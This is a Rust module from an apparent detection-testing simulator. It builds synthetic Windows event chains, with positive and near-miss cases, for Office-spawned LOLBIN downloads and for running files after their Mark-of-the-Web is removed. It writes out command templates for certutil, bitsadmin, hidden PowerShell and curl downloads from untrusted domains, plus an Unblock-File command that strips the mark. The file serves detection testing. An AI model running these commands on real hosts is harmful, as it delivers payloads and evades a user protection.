//! Windows shapes: `office-lolbin` (an Office or mail root's LOLBIN downloads a payload) and
//! `motw-removed-run` (a chained download loses its Mark-of-the-Web, then runs).

use clickchain_adapters::{AttrChange, FileOp, ProcKey};

use super::{built, near_miss, positive, Built, Case};
use crate::chain::{inject_with, Injected};
use crate::host::HostSim;
use crate::variant::{Anchor, Variant};
use crate::{ChainVia, Params};

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// LOLBINs that fetch a URL into a file: image and command line (`{url}`, `{dst}`).
const LOLBINS: [(&str, &str); 4] = [
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f {url} {dst}"),
    (r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe /transfer upd /download /priority high {url} {dst}"),
    (POWERSHELL, "powershell.exe -nop -w hidden -c \"iwr '{url}' -OutFile '{dst}'\""),
    (r"C:\Windows\System32\curl.exe", "curl.exe -s -L -o {dst} {url}"),
];

/// Office apps that start a LOLBIN from a document's macro or an embedded link.
const OFFICE: [&str; 3] = [
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE",
];

/// User folders a LOLBIN drops into, below the home folder.
const DROP_DIRS: [&str; 3] = [r"~\AppData\Local\Temp", r"~\AppData\Roaming", r"~\Downloads"];

/// Positive: an Office app (or Outlook) → LOLBIN with the URL → untrusted egress → payload in
/// a user folder. Near miss 0: the same from the browser root (a base chain, not this variant);
/// near miss 1: a new Office app's LOLBIN fetching from an allowlisted domain (no untrusted
/// egress in its lineage).
pub(super) fn office_lolbin(h: &mut HostSim, t: i64, case: Case) -> Option<Injected> {
    let n = h.next_n();
    // Outlook runs all along: its lineage has reached untrusted domains, so the near miss
    // without untrusted egress needs an Office app of its own.
    let (root, root_image) = match (case, h.rng.below(4)) {
        (Case::NearMiss(0), _) => (h.root.clone(), h.path(h.browser.image)),
        (Case::Positive, 3) => (h.mail.clone(), h.path(h.cat.mail)),
        (_, k) => {
            let image = OFFICE[k as usize % OFFICE.len()];
            let doc = h.path(&format!(r"~\Documents\Order_{n}.docm"));
            let shell = h.shell.clone();
            let office = h.spawn(t, Some(t + 300_000), &shell, image, Some(format!("\"{image}\" \"{doc}\"")), false);
            (office, image.to_owned())
        }
    };
    let trusted = case == Case::NearMiss(1);
    let domain = if trusted { "download.microsoft.com".to_owned() } else { h.risky(true) };
    let ext = *h.rng.pick(&["exe", "ps1", "zip", "js", "dll"]);
    let file = format!("{}_{n}.{ext}", h.rng.pick(crate::catalog::LURES));
    let dir = *h.rng.pick(&DROP_DIRS);
    let dst = format!(r"{}\{file}", h.path(dir));
    let url = format!("https://{domain}/files/{n}/{file}");
    let &(image, cmd) = h.rng.pick(&LOLBINS);
    let cmd = cmd.replace("{url}", &url).replace("{dst}", &dst);
    let click_ms = t + 4_000;
    let first = h.out.len() as u32;
    let lolbin = h.spawn(click_ms, Some(click_ms + 15_000), &root, image, Some(cmd), false);
    let ip = h.dns(click_ms + 200, Some(lolbin.clone()), &domain);
    let egress_ms = click_ms + 400;
    let connect = h.out.len() as u32;
    h.connect(egress_ms, &lolbin, ip, trusted.then_some(domain.as_str()));
    let write_ms = egress_ms + 1_500 + h.rng.range(0, 8_000);
    let write = h.write(write_ms, &lolbin, dst.clone(), FileOp::Create, None);
    match case {
        Case::NearMiss(1) => {
            near_miss(h, Variant::OfficeLolbin, &dst, write_ms);
            return None;
        }
        Case::NearMiss(_) => near_miss(h, Variant::OfficeLolbin, &dst, write_ms),
        Case::Positive => {}
    }
    let chain = built(
        h,
        Built {
            root,
            root_image,
            via: ChainVia::CommandLine,
            url,
            domain,
            path: dst,
            click_ms,
            egress_ms,
            write_ms,
            lineage_depth: 1,
            anchor: Anchor::File,
            seqs: vec![first, connect, write],
        },
    );
    Some(match case {
        Case::Positive => positive(chain, Variant::OfficeLolbin, true, &[Variant::OfficeLolbin]),
        Case::NearMiss(_) => chain,
    })
}

/// Positive: a chained `.exe` download, its Mark-of-the-Web removed (`Unblock-File`, Sysmon
/// EID 23 on `:Zone.Identifier`), then run from its path within minutes. Near miss 0: removed,
/// never run; near miss 1: run with the mark intact. Both near misses are base chains.
pub(super) fn motw_removed_run(h: &mut HostSim, t: i64, p: &Params, case: Case) -> Injected {
    let chain = inject_with(h, t, p, Some("exe"));
    let path = chain.chain.final_path.clone();
    let w = chain.chain.write_ms;
    let shell = h.shell.clone();
    let removed = w + h.rng.range(5_000, 60_000);
    if case != Case::NearMiss(1) {
        let cmd = format!("powershell.exe -nop -c \"Unblock-File -Path '{path}'\"");
        let ps = h.spawn(removed, Some(removed + 1_500), &shell, POWERSHELL, Some(cmd), false);
        h.attr(removed + 300, &ps, path.clone(), AttrChange::MotwRemoved);
    }
    let run = removed + h.rng.range(5_000, 240_000);
    if case != Case::NearMiss(0) {
        run_file(h, run, &shell, &path);
    }
    match case {
        Case::Positive => positive(chain, Variant::MotwRemovedRun, true, &[Variant::MotwRemovedRun]),
        Case::NearMiss(_) => {
            near_miss(h, Variant::MotwRemovedRun, &path, w);
            chain
        }
    }
}

/// The user starts `path` from Explorer: a process whose image is the file.
fn run_file(h: &mut HostSim, t: i64, parent: &ProcKey, path: &str) {
    h.spawn(t, Some(t + 30_000), parent, path, Some(format!("\"{path}\"")), false);
}
